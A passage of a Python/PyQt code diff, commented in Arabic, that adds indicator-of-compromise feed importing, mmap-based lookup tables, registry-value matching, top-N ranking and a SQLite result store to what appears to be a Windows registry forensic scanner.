+            fh.write(BASELINE_HEADER.pack(BASELINE_MAGIC, count, m, k))
+            fh.write(bits)
+        cached = _BASELINES.pop(path, None)
+        if cached is not None:
+            cached[1].close()
+        os.replace(tmp, path)
+        return count
+    finally:
+        for run in runs:
+            try:
+                os.unlink(run)
+            except Exception:
+                pass
+        if os.path.exists(tmp):
+            try:
+                os.unlink(tmp)
+            except Exception:
+                pass
+
+class BaselineBuilder(QThread):
+    finished = pyqtSignal(int, str)   # عدد البصمات، رسالة الخطأ ("" عند النجاح)
+
+    def __init__(self, rows, path: str):
+        super().__init__()
+        self.rows = rows
+        self.path = path
+
+    def run(self):
+        try:
+            self.finished.emit(build_baseline(self.rows, self.path), "")
+        except Exception as e:
+            traceback.print_exc()
+            self.finished.emit(0, str(e))
+
+# ================ خلاصات مؤشرات الاختراق (IOC) ================
+IOC_DIR = APP_DIR / "ioc"
+IOC_MAGIC = b"NTREIOC1"
+# جداول ثابتة العرض (بايتات مرتّبة) وجداول نصية (بصمات 64 بت مرتّبة + نصوص للتحقق)
+IOC_FIXED_TABLES = {"md5": 16, "sha1": 20, "sha256": 32, "ipv4": 4, "ipv6": 16}
+IOC_TEXT_TABLES = ("domain", "path", "filename")
+IOC_HASH_BY_LEN = {32: "md5", 40: "sha1", 64: "sha256"}
+IOC_BUCKET_BITS = 16   # دليل الدلاء: أعلى 16 بت من البصمة -> مدى صغير للبحث، والدلو الفارغ رفض فوري
+IOC_SORT_CHUNK = 250_000   # مؤشرات تُفرز في الذاكرة أثناء الاستيراد قبل تفريغها كدفعة مرتّبة على القرص
+_IOC_RUN_REC = struct.Struct("<QI")   # سجل دفعة نصية: البصمة وطول النص
+IOC_FILE_EXTS = {"exe", "dll", "sys", "scr", "ps1", "psm1", "bat", "cmd", "vbs", "vbe", "js", "jse", "wsf", "hta",
+                 "lnk", "jar", "msi", "cpl", "ocx", "pif", "tmp", "dat", "bin"}
+# أسماء الأنواع في CSV/JSON وأنماط STIX -> العائلة المتوقعة
+IOC_TYPE_HINTS = {
+    "md5": "hash", "sha1": "hash", "sha256": "hash", "sha-1": "hash", "sha-256": "hash", "hash": "hash", "filehash": "hash",
+    "domain": "domain", "hostname": "domain", "fqdn": "domain", "domain-name": "domain", "host": "domain",
+    "url": "url", "uri": "url", "link": "url",
+    "ip": "ip", "ipv4": "ip", "ipv6": "ip", "ip-dst": "ip", "ip-src": "ip", "ipv4-addr": "ip", "ipv6-addr": "ip", "address": "ip",
+    "path": "path", "filepath": "path", "file-path": "path", "directory": "path",
+    "filename": "filename", "file-name": "filename", "file": "filename", "name": "filename",
+}
+IOC_VALUE_COLUMNS = {"indicator", "value", "ioc", "observable", "indicator_value"}
+IOC_TYPE_COLUMNS = {"type", "indicator_type", "ioc_type", "kind", "category"}
+
+_IOC_HEX = re.compile(r"[0-9a-f]+\Z")
+_IOC_DOMAIN = re.compile(r"(?:[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?\.)+[a-z][a-z0-9-]{0,62}\Z")
+_IOC_PATH = re.compile(r"(?:[a-z]:\\|\\\\|%[^%\\]+%\\)", re.I)
+_IOC_STIX = re.compile(r"([a-z0-9-]+):([a-z0-9_.'\- ]+?)\s*=\s*'((?:[^'\\]|\\.)*)'", re.I)
+# استخراج المرشّحين من نص القيمة أثناء الفحص
+_IOC_SCAN_HEX = re.compile(r"(?<![0-9a-fA-F])(?:[0-9a-fA-F]{64}|[0-9a-fA-F]{40}|[0-9a-fA-F]{32})(?![0-9a-fA-F])")
+_IOC_SCAN_IPV4 = re.compile(r"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")
+_IOC_SCAN_IPV6 = re.compile(r"(?<![0-9a-fA-F:])[0-9a-fA-F]{0,4}(?::[0-9a-fA-F]{0,4}){2,7}(?![0-9a-fA-F:])")
+_IOC_SCAN_HOST = re.compile(r"(?<![\w.-])(?:[a-z0-9_-]+\.)+[a-z][a-z0-9-]*(?![\w-])", re.I)
+_IOC_SCAN_PATH = re.compile(r"(?:[a-z]:\\|\\\\|%[^%\\\s]+%\\)[^\"<>|*?\r\n,;]*", re.I)
+
+def _ioc_fp(text: str) -> int:
+    return int.from_bytes(hashlib.blake2b(text.encode("utf-8", "surrogatepass"), digest_size=8).digest(), "little")
+
+def _ioc_norm_path(text: str) -> str:
+    return text.strip().strip('"').replace("/", "\\").rstrip("\\").lower()
+
+def _ioc_domain_key(host: str) -> str:
+    # الملصقات معكوسة: "a.evil.com" -> "com.evil.a"، فالنطاق الفرعي يمر بعقدة أبيه أولاً
+    return ".".join(reversed(host.split(".")))
+
+def classify_ioc(text: str, hint: str = "") -> Optional[Tuple[str, Any]]:
+    """(الجدول، القيمة المطبّعة) لمؤشر واحد، أو None إن لم يُعرف نوعه. يفك التمويه الشائع (hxxp، [.])."""
+    t = text.strip().strip("\"'").strip()
+    if not t:
+        return None
+    family = IOC_TYPE_HINTS.get(hint.strip().lower(), "") if hint else ""
+    if family != "path":
+        t = t.replace("[.]", ".").replace("(.)", ".").replace("[:]", ":")
+        t = re.sub(r"^hxxp", "http", t, flags=re.I)
+    low = t.lower()
+    if family in ("", "url") and "://" in low:
+        try:
+            host = urlsplit(low).hostname or ""
+        except ValueError:
+            return None
+        return classify_ioc(host, "ip" if host.replace(".", "").isdigit() or ":" in host else "domain")
+    if family in ("", "hash") and len(low) in IOC_HASH_BY_LEN and _IOC_HEX.match(low):
+        return IOC_HASH_BY_LEN[len(low)], bytes.fromhex(low)
+    if family in ("", "ip"):
+        try:
+            ip = ipaddress.ip_address(low.strip("[]"))
+            return ("ipv4" if ip.version == 4 else "ipv6"), ip.packed
+        except ValueError:
+            if family == "ip":
+                return None
+    if family == "path" or (not family and (_IOC_PATH.match(t) or "\\" in t)):
+        path = _ioc_norm_path(t)
+        if "\\" not in path:
+            return ("filename", path) if path else None
+        return "path", path
+    if family == "filename":
+        name = _ioc_norm_path(t).rsplit("\\", 1)[-1]
+        return ("filename", name) if name else None
+    if family in ("", "domain"):
+        host = low.rstrip(".")
+        if host.startswith("*."):
+            host = host[2:]
+        if _IOC_DOMAIN.match(host):
+            if not family and host.rsplit(".", 1)[-1] in IOC_FILE_EXTS:
+                return "filename", host
+            return "domain", host
+    return None
+
+def _ioc_iter_json(node, hint: str = ""):
+    if isinstance(node, list):
+        for x in node:
+            yield from _ioc_iter_json(x, hint)
+    elif isinstance(node, dict):
+        pattern = node.get("pattern")
+        if isinstance(pattern, str):
+            # STIX: [file:hashes.'SHA-256' = '...'] / [domain-name:value = '...']
+            for obj, prop, value in _IOC_STIX.findall(pattern):
+                prop = prop.lower()
+                if obj.lower() == "file":
+                    kind = "hash" if prop.startswith("hashes") else ("filename" if prop == "name" else "path")
+                else:
+                    kind = obj
+                yield value.replace("\\\\", "\\").replace("\\'", "'"), kind
+        value = next((node[k] for k in ("value", "indicator", "ioc") if isinstance(node.get(k), str)), None)
+        if value is not None:
+            yield value, str(node.get("type") or hint or "")
+        for k, v in node.items():
+            if isinstance(v, (list, dict)):
+                yield from _ioc_iter_json(v, hint)
+
+def iter_ioc_feed(path: str):
+    """يُنتج (نص المؤشر، تلميح النوع) من ملف TXT أو CSV أو JSON (حزمة STIX أو قائمة {type, value})."""
+    suffix = Path(path).suffix.lower()
+    if suffix == ".json":
+        with open(path, "r", encoding="utf-8-sig") as f:
+            yield from _ioc_iter_json(json.load(f))
+        return
+    with open(path, "r", encoding="utf-8-sig", errors="replace", newline="") as f:
+        if suffix == ".csv":
+            reader = csv.reader(f)
+            header = next(reader, None) or []
+            cols = [c.strip().lower() for c in header]
+            vcol = next((i for i, c in enumerate(cols) if c in IOC_VALUE_COLUMNS), None)
+            tcol = next((i for i, c in enumerate(cols) if c in IOC_TYPE_COLUMNS), None)
+            rows = reader if vcol is not None else itertools.chain([header], reader)
+            for row in rows:
+                if vcol is not None:
+                    if vcol < len(row):
+                        yield row[vcol], row[tcol] if tcol is not None and tcol < len(row) else ""
+                else:
+                    for cell in row:
+                        yield cell, ""
+            return
+        for line in f:
+            line = line.split("#", 1)[0].strip() if not line.lstrip().startswith("#") else ""
+            if line:
+                yield line, ""
+
+def _ioc_write_run(items, width: int) -> str:
+    """دفعة مرتّبة على القرص: قيم بعرض ثابت متتالية، أو سجلات (بصمة، طول، نص) للجداول النصية."""
+    fd, run = tempfile.mkstemp(prefix="ioc_", suffix=".run", dir=str(IOC_DIR))
+    with os.fdopen(fd, "wb") as fh:
+        if width:
+            fh.write(b"".join(items))
+        else:
+            for fp, raw in items:
+                fh.write(_IOC_RUN_REC.pack(fp, len(raw)))
+                fh.write(raw)
+    return run
+
+def _ioc_run(path: str, width: int):
+    with open(path, "rb", buffering=1 << 20) as fh:
+        if width:
+            while True:
+                block = fh.read(width * 65536)
+                if not block:
+                    return
+                for i in range(0, len(block), width):
+                    yield block[i:i + width]
+        while True:
+            head = fh.read(_IOC_RUN_REC.size)
+            if not head:
+                return
+            fp, n = _IOC_RUN_REC.unpack(head)
+            yield fp, fh.read(n)
+
+def build_ioc_feed(sources: List[str], path: str, name: str = "") -> Dict[str, int]:
+    """
+    يستورد خلاصة أو أكثر إلى ملف واحد قابل لـ mmap. الجداول مرتّبة فلا يلزم عند الفحص إلا فتح الملف:
+    لا تحليل ولا بناء هياكل في الذاكرة مهما بلغ عدد المؤشرات.
+    الاستيراد نفسه فرز خارجي كما في build_baseline: المؤشرات تُفرز على دفعات (IOC_SORT_CHUNK) تُفرَّغ
+    إلى القرص، ثم تُدمج كل جدول مع حذف المكرر وتُكتب أقسامه تدفقياً.
+    """
+    IOC_DIR.mkdir(parents=True, exist_ok=True)
+    widths = {t: IOC_FIXED_TABLES.get(t, 0) for t in (*IOC_FIXED_TABLES, *IOC_TEXT_TABLES)}
+    bufs: Dict[str, Set[Any]] = {t: set() for t in widths}
+    runs: Dict[str, List[str]] = {t: [] for t in widths}
+    temps: List[str] = []
+    tmp = path + ".tmp"
+    skipped = 0
+    pending = 0
+
+    def spill():
+        for t, buf in bufs.items():
+            if buf:
+                run = _ioc_write_run(sorted(buf), widths[t])
+                runs[t].append(run)
+                temps.append(run)
+                buf.clear()
+
+    def section_file() -> Any:
+        fd, sec = tempfile.mkstemp(prefix="ioc_", suffix=".sec", dir=str(IOC_DIR))
+        temps.append(sec)
+        return os.fdopen(fd, "w+b")
+
+    def pad(fh):
+        fh.write(b"\0" * ((-fh.tell()) % 8))
+
+    try:
+        for src in sources:
+            for text, hint in iter_ioc_feed(src):
+                hit = classify_ioc(text, hint)
+                if hit is None:
+                    skipped += 1
+                    continue
+                table, value = hit
+                if table == "domain":
+                    value = _ioc_domain_key(value)
+                if not widths[table]:
+                    value = (_ioc_fp(value), value.encode("utf-8", "surrogatepass"))
+                buf = bufs[table]
+                n = len(buf)
+                buf.add(value)
+                pending += len(buf) - n
+                if pending >= IOC_SORT_CHUNK:
+                    spill()
+                    pending = 0
+
+        # الأقسام تُكتب في ملف جسم مؤقت (إزاحاتها نسبية لبدايته) لأن الترويسة تحمل أعدادها وإزاحاتها
+        directory: Dict[str, Dict[str, int]] = {}
+        counts: Dict[str, int] = {}
+        shift = 64 - IOC_BUCKET_BITS
+        with section_file() as body:
+            for table, width in widths.items():
+                merged = heapq.merge(iter(sorted(bufs[table])), *[_ioc_run(r, width) for r in runs[table]])
+                bufs[table] = set()
+                count, last = 0, None
+                if width:
+                    start = body.tell()
+                    out: List[bytes] = []
+                    for v in merged:
+                        if v == last:
+                            continue
+                        last = v
+                        out.append(v)
+                        count += 1
+                        if len(out) >= 65536:
+                            body.write(b"".join(out))
+                            out = []
+                    body.write(b"".join(out))
+                    pad(body)
+                    if count:
+                        directory[table] = {"count": count, "width": width, "data": start}
+                else:
+                    # البصمات تُكتب مباشرة، والإزاحات والنصوص في ملفين جانبيين تُلحق بعد دليل الدلاء
+                    fps_at = body.tell()
+                    buckets = array("Q", bytes(8 * ((1 << IOC_BUCKET_BITS) + 1)))
+                    fps, offs, end = array("Q"), array("Q", [0]), 0
+                    with section_file() as offs_fh, section_file() as blob_fh:
+                        for rec in merged:
+                            if rec == last:
+                                continue
+                            last = rec
+                            fp, raw = rec
+                            buckets[(fp >> shift) + 1] += 1
+                            fps.append(fp)
+                            end += len(raw)
+                            offs.append(end)
+                            blob_fh.write(raw)
+                            count += 1
+                            if len(fps) >= 65536:
+                                fps.tofile(body)
+                                offs.tofile(offs_fh)
+                                fps, offs = array("Q"), array("Q")
+                        fps.tofile(body)
+                        offs.tofile(offs_fh)
+                        if not count:
+                            body.seek(fps_at)
+                            body.truncate()
+                            continue
+                        pad(body)
+                        for i in range(1, len(buckets)):
+                            buckets[i] += buckets[i - 1]
+                        dir_at = body.tell()
+                        buckets.tofile(body)
+                        pad(body)
+                        entry = {"count": count, "fps": fps_at, "dir": dir_at}
+                        for key, fh in (("offs", offs_fh), ("blob", blob_fh)):
+                            entry[key] = body.tell()
+                            fh.seek(0)
+                            shutil.copyfileobj(fh, body, 1 << 20)
+                            pad(body)
+                        directory[table] = entry
+                if count:
+                    counts[table] = count
+            meta = json.dumps({"name": name or Path(sources[0]).stem, "sources": [str(s) for s in sources],
+                               "created": datetime.now().strftime("%Y-%m-%d %H:%M:%S"), "counts": counts,
+                               "skipped": skipped, "tables": directory}, ensure_ascii=False).encode("utf-8")
+            head = IOC_MAGIC + struct.pack("<I", len(meta)) + meta
+            head += b"\0" * ((-len(head)) % 8)
+            with open(tmp, "wb") as fh:
+                fh.write(head)
+                body.seek(0)
+                shutil.copyfileobj(body, fh, 1 << 20)
+        # الملف المفتوح عبر mmap لا يُستبدل على ويندوز
+        cached = _IOC_FEEDS.pop(path, None)
+        if cached is not None:
+            cached[1].close()
+        os.replace(tmp, path)
+        return dict(counts, skipped=skipped)
+    finally:
+        for t in temps:
+            try:
+                os.unlink(t)
+            except Exception:
+                pass
+        if os.path.exists(tmp):
+            try:
+                os.unlink(tmp)
+            except Exception:
+                pass
+
+class _FixedTable:
+    """عناصر بعرض ثابت مرتّبة داخل mmap، تُبحث ثنائياً دون نسخها."""
+    def __init__(self, view: memoryview, count: int, width: int):
+        self.view, self.count, self.width = view, count, width
+
+    def __len__(self):
+        return self.count
+
+    def __getitem__(self, i: int) -> bytes:
+        w = self.width
+        return self.view[i * w:(i + 1) * w].tobytes()
+
+    def __contains__(self, item: bytes) -> bool:
+        i = bisect_left(self, item)
+        return i < self.count and self[i] == item
+
+class _TextTable:
+    """
+    نصوص مرتّبة ببصماتها: الدلو يحدد مدى البحث (غالباً فارغ أو بضعة عناصر)، والتحقق بمقارنة
+    النص عند تطابق البصمة فقط.
+    """
+    _SHIFT = 64 - IOC_BUCKET_BITS
+
+    def __init__(self, fps: memoryview, buckets: memoryview, offs: memoryview, blob: memoryview):
+        self.fps, self.buckets, self.offs, self.blob = fps, buckets, offs, blob
+        self.count = len(fps)
+
+    def __contains__(self, text: str) -> bool:
+        fp = _ioc_fp(text)
+        b = fp >> self._SHIFT
+        lo, hi = self.buckets[b], self.buckets[b + 1]
+        if lo == hi:
+            return False
+        i = bisect_left(self.fps, fp, lo, hi)
+        raw = text.encode("utf-8", "surrogatepass")
+        while i < hi and self.fps[i] == fp:
+            if self.blob[self.offs[i]:self.offs[i + 1]] == raw:
+                return True
+            i += 1
+        return False
+
+class IocFeed:
+    """ملف خلاصة مستوردة مفتوح عبر mmap؛ الفتح يقرأ الترويسة فقط."""
+    def __init__(self, path):
+        self.path = str(path)
+        self._fh = open(self.path, "rb")
+        try:
+            self._mm = mmap.mmap(self._fh.fileno(), 0, access=mmap.ACCESS_READ)
+        except ValueError:
+            self._fh.close()
+            raise ValueError(tr("ioc_bad").format(self.path))
+        if self._mm[:8] != IOC_MAGIC:
+            self._mm.close(); self._fh.close()
+            raise ValueError(tr("ioc_bad").format(self.path))
+        (mlen,) = struct.unpack_from("<I", self._mm, 8)
+        self.meta = json.loads(self._mm[12:12 + mlen].decode("utf-8"))
+        self.name = self.meta.get("name", Path(self.path).stem)
+        base = 12 + mlen + (-(12 + mlen)) % 8
+        self._views: List[memoryview] = []
+        self.tables: Dict[str, Any] = {}
+        for table, d in self.meta.get("tables", {}).items():
+            n = int(d["count"])
+            if table in IOC_FIXED_TABLES:
+                w = int(d["width"])
+                self.tables[table] = _FixedTable(self._view(base + d["data"], n * w), n, w)
+            else:
+                offs = self._view(base + d["offs"], 8 * (n + 1)).cast("Q")
+                self._views.append(offs)
+                fps = self._view(base + d["fps"], 8 * n).cast("Q")
+                self._views.append(fps)
+                buckets = self._view(base + d["dir"], 8 * ((1 << IOC_BUCKET_BITS) + 1)).cast("Q")
+                self._views.append(buckets)
+                self.tables[table] = _TextTable(fps, buckets, offs, self._view(base + d["blob"], offs[n]))
+
+    def _view(self, start: int, length: int) -> memoryview:
+        v = memoryview(self._mm)[start:start + length]
+        self._views.append(v)
+        return v
+
+    def close(self):
+        for v in reversed(self._views):
+            v.release()
+        self._views = []
+        try:
+            self._mm.close()
+        except Exception:
+            pass
+        self._fh.close()
+
+_IOC_FEEDS: Dict[str, Tuple[float, IocFeed]] = {}
+
+def open_ioc_feed(path: str) -> IocFeed:
+    mtime = os.path.getmtime(path)
+    cached = _IOC_FEEDS.get(path)
+    if cached is not None and cached[0] == mtime:
+        return cached[1]
+    feed = IocFeed(path)
+    _IOC_FEEDS[path] = (mtime, feed)
+    return feed
+
+class IocMatcher:
+    """
+    يستخرج المرشّحين من نص القيمة مرة واحدة ويختبرهم في كل الخلاصات. تُشغَّل فقط التعابير
+    التي توجد لها جداول. النطاقات تُمشى ملصقاً ملصقاً من الجذر (شجرة لاحقات معكوسة مسطّحة)،
+    والمسارات مكوّناً مكوّناً (شجرة بادئات مسطّحة)، واسم الملف يُختبر مستقلاً.
+    """
+    def __init__(self, paths: List[str]):
+        self.feeds = [open_ioc_feed(p) for p in paths]
+        have = {t for f in self.feeds for t in f.tables}
+        self._hashes = bool(have & {"md5", "sha1", "sha256"})
+        self._ipv4 = "ipv4" in have
+        self._ipv6 = "ipv6" in have
+        self._domains = "domain" in have
+        self._paths = "path" in have
+        self._names = "filename" in have
+
+    def _probe(self, table: str, item) -> Optional[str]:
+        for feed in self.feeds:
+            t = feed.tables.get(table)
+            if t is not None and item in t:
+                return feed.name
+        return None
+
+    def _host_hit(self, host: str) -> Optional[Tuple[str, str, str]]:
+        labels = host.lower().split(".")
+        key = ""
+        for label in reversed(labels):
+            key = f"{key}.{label}" if key else label
+            feed = self._probe("domain", key)
+            if feed:
+                return "domain", _ioc_domain_key(key), feed
+        return None
+
+    def _path_hit(self, raw: str) -> Optional[Tuple[str, str, str]]:
+        # "/" هنا بداية معامل سطر أوامر وليست فاصل مسار
+        path = raw.strip().rstrip("\\").lower()
+        parts = path.split("\\")
+        last = parts[-1]
+        # المكوّن الأخير قد يتبعه معاملات سطر أوامر: تُجرّب البادئات المنتهية قبل كل مسافة
+        tails = [last] + [last[:i] for i, ch in enumerate(last) if ch == " "]
+        if self._paths:
+            prefix = ""
+            for comp in parts[:-1]:
+                prefix = f"{prefix}\\{comp}" if prefix else comp
+                feed = self._probe("path", prefix)
+                if feed:
+                    return "path", prefix, feed
+            head = prefix + "\\" if prefix else ""
+            for tail in tails:
+                feed = self._probe("path", head + tail)
+                if feed:
+                    return "path", head + tail, feed
+        if self._names:
+            for tail in tails:
+                feed = self._probe("filename", tail)
+                if feed:
+                    return "filename", tail, feed
+        return None
+
+    def match(self, text: str) -> Optional[Tuple[str, str, str]]:
+        """(النوع، المؤشر، اسم الخلاصة) لأول مؤشر موجود في النص، أو None."""
+        if not text:
+            return None
+        if self._hashes and len(text) >= 32:
+            for m in _IOC_SCAN_HEX.finditer(text):
+                h = m.group(0).lower()
+                table = IOC_HASH_BY_LEN[len(h)]
+                feed = self._probe(table, bytes.fromhex(h))
+                if feed:
+                    return table, h, feed
+        if (self._paths or self._names) and "\\" in text:
+            for m in _IOC_SCAN_PATH.finditer(text):
+                hit = self._path_hit(m.group(0))
+                if hit:
+                    return hit
+        if "." in text:
+            if self._ipv4:
+                for m in _IOC_SCAN_IPV4.finditer(text):
+                    try:
+                        packed = ipaddress.IPv4Address(m.group(0)).packed
+                    except ValueError:
+                        continue
+                    feed = self._probe("ipv4", packed)
+                    if feed:
+                        return "ipv4", m.group(0), feed
+            if self._domains or self._names:
+                for m in _IOC_SCAN_HOST.finditer(text):
+                    host = m.group(0)
+                    hit = self._host_hit(host) if self._domains else None
+                    if hit is None and self._names:
+                        feed = self._probe("filename", host.lower())
+                        hit = ("filename", host.lower(), feed) if feed else None
+                    if hit:
+                        return hit
+        if self._ipv6 and ":" in text:
+            for m in _IOC_SCAN_IPV6.finditer(text):
+                try:
+                    packed = ipaddress.IPv6Address(m.group(0)).packed
+                except ValueError:
+                    continue
+                feed = self._probe("ipv6", packed)
+                if feed:
+                    return "ipv6", m.group(0), feed
+        return None
+
+    def match_bytes(self, data: bytes, wide: Optional[Utf16Views] = None) -> Optional[Tuple[str, str, str]]:
+        """REG_BINARY: المؤشرات تُبحث في النص ASCII ثم في فك UTF-16LE (بالمحاذاتين) إن وُجدت بايتات صفرية."""
+        hit = self.match(data.decode("latin-1"))
+        if hit is None and b"\x00" in data:
+            for text in (wide or Utf16Views(data)).texts():
+                hit = self.match(text)
+                if hit:
+                    break
+        return hit
+
+class IocImporter(QThread):
+    finished = pyqtSignal(object, str)   # أعداد المؤشرات لكل جدول، رسالة الخطأ ("" عند النجاح)
+
+    def __init__(self, sources: List[str], path: str, name: str):
+        super().__init__()
+        self.sources, self.path, self.name = sources, path, name
+
+    def run(self):
+        try:
+            self.finished.emit(build_ioc_feed(self.sources, self.path, self.name), "")
+        except Exception as e:
+            traceback.print_exc()
+            self.finished.emit({}, str(e))
+
+# ================ حدود المطابقات وأعلى N ================
+RULE_LEVEL_RANK = {"informational": 0, "info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
+RULE_LEVEL_MAX = max(RULE_LEVEL_RANK.values())
+
+def rule_level_rank(row: Dict[str, Any]) -> int:
+    """مطابقة في خط الأساس = -2؛ مطابقة كلمة فقط = -1؛ مطابقة قاعدة بمستوى غير معروف = 0."""
+    if row.get("baseline"):
+        return -2
+    if not row.get("matched_rule"):
+        return -1
+    return RULE_LEVEL_RANK.get(str(row.get("rule_level", "")).strip().lower(), 0)
+
+class TopNCollector:
+    """كومة صغرى بحجم N: تُستبعد أدنى المطابقات مستوىً، وعند التساوي يُحتفظ بالأسبق في ترتيب العبور."""
+    def __init__(self, n: int):
+        self.n = max(1, int(n))
+        self._heap: List[Tuple[int, int, Dict[str, Any]]] = []
+        self._seq = 0
+
+    def push(self, row: Dict[str, Any]):
+        import heapq
+        self._seq += 1
+        entry = (rule_level_rank(row), -self._seq, row)
+        if len(self._heap) < self.n:
+            heapq.heappush(self._heap, entry)
+        elif entry[:2] > self._heap[0][:2]:
+            heapq.heapreplace(self._heap, entry)
+
+    def saturated(self) -> bool:
+        # لا يمكن لأي مطابقة لاحقة أن تتفوق: الكومة ممتلئة بأعلى مستوى ممكن
+        return len(self._heap) >= self.n and self._heap[0][0] >= RULE_LEVEL_MAX
+
+    def rows(self) -> List[Dict[str, Any]]:
+        return [e[2] for e in sorted(self._heap, key=lambda e: (-e[0], -e[1]))]
+
+# ================ تجميع القيم المتكررة ================
+VALUE_GROUP_SAMPLES = 3     # مفاتيح نموذجية تُحفظ لكل مجموعة
+VALUE_GROUP_PREVIEW = 512   # طول معاينة القيمة المحفوظة مع المجموعة في المخزن
+
+def value_group_id(row: Dict[str, Any]) -> int:
+    """بصمة 64 بت لـ(اسم القيمة، نوعها، محتواها): مفتاح المجموعة في الذاكرة وفي SQLite."""
+    raw = "\x00".join((str(row.get("value_name", "")), str(row.get("value_type", "")), str(row.get("value_str", ""))))
+    digest = hashlib.blake2b(raw.encode("utf-8", "surrogatepass"), digest_size=8).digest()
+    return int.from_bytes(digest, "big", signed=True)
+
+def value_groups(rows, gids: Optional[List[int]] = None) -> Dict[int, Dict[str, Any]]:
+    """يجمّع دفعة صفوف: عدد كل مجموعة، مطابقاتها، وأول مفاتيحها كنماذج."""
+    groups: Dict[int, Dict[str, Any]] = {}
+    for i, r in enumerate(rows):
+        gid = gids[i] if gids is not None else value_group_id(r)
+        g = groups.get(gid)
+        if g is None:
+            g = groups[gid] = {"id": gid, "value_name": str(r.get("value_name", "")), "value_type": str(r.get("value_type", "")),
+                               "value_str": str(r.get("value_str", "")), "count": 0, "matched": 0, "samples": []}
+        g["count"] += 1
+        if r.get("matched_any"):
+            g["matched"] += 1
+        if len(g["samples"]) < VALUE_GROUP_SAMPLES:
+            g["samples"].append(str(r.get("key", "")))
+    return groups
+
+def list_value_groups(items: List[Dict[str, Any]]) -> List[Dict[str, Any]]:
+    return sorted(value_groups(items).values(), key=lambda g: (-g["count"], -g["matched"]))
+
+# ================ مخزن النتائج مع التفريغ إلى القرص ================
+SPILL_DIR = APP_DIR / "spill"
+RESULT_STORE_BUFFER = 2000  # صفوف تُجمّع في الذاكرة قبل إدراجها دفعة واحدة
+RESULT_STORE_PAGE = 256     # صفوف في كل صفحة قراءة
+RESULT_STORE_PAGES = 16     # عدد الصفحات المخبأة (نافذة الذاكرة المحدودة)
+RESULT_FIELDS = ["key", "value_name", "value_str", "matched_kw", "value_type",
+                 "last_mod", "owner", "state", "matched_rule", "rule_level", "reasons", "user", "obf_score"]
+RESULT_INT_FIELDS = {"obf_score"}   # أعمدة رقمية في SQLite (NULL = غير مُقيَّم) لتعمل مقارنات > و < رقمياً
+
+def result_store_value(row: Dict[str, Any], name: str) -> Any:
+    return row.get(name) if name in RESULT_INT_FIELDS else result_cell_text(row, name)
+
+def result_cell_text(row: Dict[str, Any], name: str) -> str:
+    if name == "reasons":
+        return ", ".join(row.get("reasons", []))
+    return str(row.get(name, ""))
+
+def count_matched(items) -> int:
+    if isinstance(items, ResultStore):
+        return items.matched_count
+    return len([x for x in items if x.get("matched_any")])
+
+def cleanup_spill_dir():
+    # ملفات متبقية من جلسات سابقة انتهت بشكل مفاجئ (الملفات المفتوحة في نسخة أخرى يرفض ويندوز حذفها)
+    if not SPILL_DIR.exists():
+        return
+    for p in SPILL_DIR.glob("results_*.sqlite"):
+        try:
+            p.unlink()
+        except Exception:
+            pass
+
+def _sql_regexp(pattern: str, value: Any) -> int:
+    try:
+        return 1 if _compiled_filter_regex(pattern).search(value or "") else 0
+    except re.error:
+        return 0
+
+@lru_cache(maxsize=32)
+def _compiled_filter_regex(pattern: str):
+    return re.compile(pattern)
+
+class ResultStore:
+    """
+    بديل لقائمة النتائج في وضع display_mode="all": الصفوف تُكتب إلى SQLite تحت APP_DIR
+    ويبقى في الذاكرة مخزن كتابة صغير وعدد محدود من صفحات القراءة فقط.
+    يدعم ما يستخدمه الخيط من واجهة القائمة: append/extend/len/فهرسة/شرائح/del out[mark:].
+    الحذف من الواجهة يضع علامة deleted دون إعادة ترقيم، والفلترة تُنفذ داخل SQLite.
+    جدول groups يُحدَّث مع كل دفعة مُدرجة، فعرض القيم المتكررة جاهز فور انتهاء الفحص.
+    """
+    _seq = 0
+
+    def __init__(self):
+        SPILL_DIR.mkdir(parents=True, exist_ok=True)
+        ResultStore._seq += 1
+        self.path = SPILL_DIR / f"results_{os.getpid()}_{ResultStore._seq}.sqlite"
+        if self.path.exists():
+            self.path.unlink()
+        self._db = sqlite3.connect(str(self.path), check_same_thread=False)
+        self._db.execute("PRAGMA journal_mode=OFF")
+        self._db.execute("PRAGMA synchronous=OFF")
+        self._db.execute("PRAGMA cache_size=-8192")
+        self._db.create_function("regexp", 2, _sql_regexp)
+        cols = ", ".join(f"{f} {'INTEGER' if f in RESULT_INT_FIELDS else 'TEXT'}" for f in RESULT_FIELDS)
+        self._db.execute(f"CREATE TABLE rows (id INTEGER PRIMARY KEY, matched INTEGER, deleted INTEGER DEFAULT 0, grp INTEGER, {cols}, data TEXT)")
+        self._db.execute("CREATE TABLE groups (id INTEGER PRIMARY KEY, value_name TEXT, value_type TEXT, value_str TEXT, "
+                         "count INTEGER, matched INTEGER, nsamples INTEGER, samples TEXT)")
+        # الأدلة المستخرجة صف لكل (نوع، قيمة)؛ فهرس (kind, value) يُبنى عند أول استعلام عليها
+        self._db.execute("CREATE TABLE artifacts (rid INTEGER, kind TEXT, value TEXT)")
+        self._stored = 0
+        self._pending: List[Dict[str, Any]] = []
+        self._pages: Dict[int, List[Dict[str, Any]]] = {}
+        self._views = 0
+        self._indexed: Set[str] = set()
+        self.matched_count = 0
+        self.has_deleted = False
+
+    # ----- كتابة
+    def append(self, row: Dict[str, Any]):
+        self._pending.append(row)
+        if row.get("matched_any"):
+            self.matched_count += 1
+        if len(self._pending) >= RESULT_STORE_BUFFER:
+            self.flush()
+
+    def extend(self, rows):
+        for row in rows:
+            self.append(row)
+
+    def flush(self):
+        if not self._pending:
+            return
+        start = self._stored
+        gids = [value_group_id(r) for r in self._pending]
+        self._db.executemany(
+            f"INSERT INTO rows (id, matched, grp, {', '.join(RESULT_FIELDS)}, data) VALUES ({', '.join('?' * (len(RESULT_FIELDS) + 4))})",
+            [(start + i + 1, 1 if r.get("matched_any") else 0, gids[i], *[result_store_value(r, f) for f in RESULT_FIELDS],
+              json.dumps(r, ensure_ascii=False, default=str)) for i, r in enumerate(self._pending)])
+        self._add_groups(value_groups(self._pending, gids).values())
+        self._add_artifacts(start + 1, self._pending)
+        self._db.commit()
+        self._stored += len(self._pending)
+        self._pending = []
+
+    def _add_groups(self, groups):
+        # الدمج مع المجموعات الموجودة داخل SQLite؛ النماذج تتوقف عن النمو بعد VALUE_GROUP_SAMPLES
+        self._db.executemany(
+            "INSERT INTO groups VALUES (?, ?, ?, ?, ?, ?, ?, ?) ON CONFLICT(id) DO UPDATE SET "
